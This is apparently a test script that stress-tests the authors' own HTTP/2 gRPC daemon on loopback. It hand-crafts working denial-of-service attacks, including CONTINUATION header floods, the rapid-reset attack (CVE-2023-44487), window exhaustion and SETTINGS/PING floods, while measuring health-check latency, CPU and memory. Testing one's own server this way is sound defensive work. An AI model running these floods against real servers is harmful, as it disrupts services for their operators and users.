#!/usr/bin/env python3
"""Attacks on HTTP/2 with bounded traffic, and their effect on a daemon of ours.

    http2_attacker.py ATTACK --server=127.0.0.1:PORT --pid=PID [--connections=N] [--bytes=N] [--count=N]

Frames are made by hand: no library sends such ones. Each connection sends --bytes or --count and
then waits; meanwhile an honest client asks for the daemon's health. Prints one JSON object:
seconds, sent bytes, connections that the daemon ended, calls of the honest client that were answered
and missed (5 s), the longest, and of the daemon: CPU seconds, resident MB before, at most and after.

    one_header     a header whose one value never ends, in CONTINUATION frames
    many_headers   a header block of small fields that never ends
    frames         CONTINUATION frames of one byte
    empty_frames   empty CONTINUATION frames
    reset          calls that are reset as soon as they are made (CVE-2023-44487)
    unread         calls whose answers are never read, the window being open
    settings       SETTINGS frames, each of which must be acknowledged
    pings          PING frames, each of which must be answered

Only against a daemon on loopback that the caller started.
"""
import argparse
import json
import os
import socket
import struct
import sys
import threading
import time

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack('>I', 8)


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


def field(name, value):
    """Returns a literal without indexing, neither part compressed; both shorter than 127 bytes."""
    return b'\0' + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_header(path):
    return (field(b':method', b'POST') + field(b':scheme', b'http') + field(b':path', path) +
            field(b':authority', b'x') + field(b'content-type', b'application/grpc') +
            field(b'te', b'trailers'))


HEALTH = call_header(b'/grpc.health.v1.Health/Check')
CAPABILITIES = call_header(b'/kiln.v1.Compiler/GetCapabilities')
EMPTY_MESSAGE = b'\0\0\0\0\0'


def connect(server):
    host, port = server.rsplit(':', 1)
    s = socket.create_connection((host, int(port)), 5)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return s


def blocks(opts):
    """Yields the bytes that one connection sends, block by block, after the greeting."""
    if opts.attack in ('one_header', 'many_headers', 'frames', 'empty_frames'):
        # A literal whose value has 2^28 bytes, or no field yet.
        start = b'\0\1x\x7f' + b'\x81\xff\xff\x7f' if opts.attack in ('one_header', 'frames') else b''
        yield frame(HEADERS, 0, 1, HEALTH + start)
        body = {'one_header': b'v' * 16384, 'many_headers': field(b'a', b'b') * 3276, 'frames': b'v',
                'empty_frames': b''}[opts.attack]
        part = frame(CONTINUATION, 0, 1, body)
        times = max(1, 65536 // len(part))
        for _ in range(opts.bytes // (times * len(part))):
            yield part * times
        return
    for first in range(0, opts.count, 100):
        out = b''
        for i in range(first, min(first + 100, opts.count)):
            stream = 2 * i + 1
            if opts.attack == 'reset':
                out += frame(HEADERS, END_HEADERS, stream, CAPABILITIES) + frame(RST_STREAM, 0, stream, CANCEL)
            elif opts.attack == 'unread':
                out += (frame(HEADERS, END_HEADERS, stream, CAPABILITIES) +
                        frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))
            elif opts.attack == 'settings':
                out += frame(SETTINGS, 0, 0)
            else:
                out += frame(PING, 0, 0, b'12345678')
        yield out


class Attack:
    def __init__(self, opts):
        self.opts, self.sent, self.ended, self.lock = opts, 0, 0, threading.Lock()
        self.stop = time.time() + opts.seconds
        self.threads = [threading.Thread(target=self.run, daemon=True) for _ in range(opts.connections)]

    def run(self):
        sent, ended = 0, False
        try:
            s = connect(self.opts.server)
            s.settimeout(max(0.1, self.stop - time.time()))
            for block in blocks(self.opts):
                s.sendall(block)
                sent += len(block)
                if time.time() > self.stop:
                    break
            # Until the daemon ends it or the time is over; the attack "unread" reads nothing.
            while time.time() < self.stop:
                s.settimeout(0.2)
                try:
                    if self.opts.attack == 'unread':
                        time.sleep(0.2)
                    elif not s.recv(65536):
                        ended = True
                        break
                except TimeoutError:
                    if self.opts.attack in ('reset', 'settings'):
                        break
        except TimeoutError:
            pass
        except OSError:
            ended = True
        with self.lock:
            self.sent += sent
            self.ended += ended


def health(server, timeout):
    """Returns the seconds until the answer; None if there was none."""
    start = time.time()
    try:
        s = connect(server)
        s.settimeout(timeout)
        s.sendall(frame(HEADERS, END_HEADERS, 1, HEALTH) + frame(DATA, END_STREAM, 1, EMPTY_MESSAGE))
        got = b''
        while b'\x08\x01' not in got:
            part = s.recv(4096)
            if not part or time.time() - start > timeout:
                return None
            got += part
        s.close()
        return time.time() - start
    except OSError:
        return None


def resident(pid):
    for line in open(f'/proc/{pid}/status'):
        if line.startswith('VmRSS:'):
            return int(line.split()[1]) / 1024
    return 0


def cpu_seconds(pid):
    fields = open(f'/proc/{pid}/stat').read().rsplit(') ', 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf('SC_CLK_TCK')


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument('attack')
    parser.add_argument('--server', required=True)
    parser.add_argument('--pid', type=int, required=True)
    parser.add_argument('--connections', type=int, default=8)
    parser.add_argument('--bytes', type=int, default=4 << 20)
    parser.add_argument('--count', type=int, default=2500)
    parser.add_argument('--seconds', type=float, default=20)
    opts = parser.parse_args()
    if not opts.server.startswith('127.0.0.1:'):
        sys.exit('loopback only')

    before, cpu, start = resident(opts.pid), cpu_seconds(opts.pid), time.time()
    most, latencies, missed = before, [], 0
    attack = Attack(opts)
    for t in attack.threads:
        t.start()
    while any(t.is_alive() for t in attack.threads):
        seconds = health(opts.server, 5)
        if seconds is None:
            missed += 1
        else:
            latencies.append(seconds)
        most = max(most, resident(opts.pid))
        time.sleep(0.02)
    seconds = time.time() - start
    time.sleep(0.3)
    print(json.dumps({
        'attack': opts.attack, 'seconds': round(seconds, 2), 'sent': attack.sent, 'ended': attack.ended,
        'answered': len(latencies), 'missed': missed, 'longest': round(max(latencies, default=0), 3),
        'cpu': round(cpu_seconds(opts.pid) - cpu, 2), 'resident_before': round(before, 1),
        'resident_most': round(most, 1), 'resident_after': round(resident(opts.pid), 1)}))


if __name__ == '__main__':
    main()
